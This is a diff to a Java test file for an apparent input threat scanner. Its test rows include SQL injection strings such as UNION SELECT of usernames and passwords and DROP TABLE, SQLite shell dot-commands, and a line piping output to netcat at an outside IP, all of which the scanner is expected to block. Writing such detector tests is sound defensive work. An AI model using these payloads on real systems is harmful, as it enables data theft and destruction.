@@ -643,6 +643,43 @@ class ThreatScannerTest {
       delimiter = '^',
       quoteCharacter = '~',
       value = {
+        "a backquoted name closed, or        ^ 1` OR 1=1",
+        "a backquoted name closed, union     ^ x` UNION SELECT username,password FROM users--",
+        "a backquoted name closed, stacked   ^ 1`; DROP TABLE users--",
+        "a number, a truth keyword           ^ 1 OR true",
+        "a number closed by a parenthesis    ^ 1) OR 1",
+        "a number, a truth value, a comment  ^ -1 OR 1#",
+        "two parentheses, a truth keyword    ^ 1)) or false;"
+      })
+  @DisplayName(
+      "SQL after a closed backquoted name, and a bare truth value after a number that a"
+          + " parenthesis, a comment or a truth keyword marks as a query's, are blocked")
+  void backquotedNamesAndBareTruthValues(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "Markdown code spans joined by or   | use `price` or `size` in the filter",
+        "a code span then a condition word  | `BTC-USD` or 1 lot, whichever is smaller",
+        "a number or another                | 1 or 2",
+        "lots or lots                       | buy 1 or 2 lots",
+        "a parenthesis in prose             | (see note 1) or 2",
+        "a truth word in prose              | 1 or true, both read the same"
+      })
+  @DisplayName("prose near the backquote and bare-truth-value classes passes")
+  void backquotedNamesAndBareTruthValuesProse(String what, String value) {
+    assertThat(scanner.scan(value).threat()).as(what).isFalse();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '^',
+      quoteCharacter = '~',
+      value = {
         "SQLite's shell dot-command          ^ ;.shell ls",
         "SQLite's system dot-command, alone  ^ .system id",
         "SQLite output piped to a program    ^ 1;.output |nc 10.0.0.1 4444",
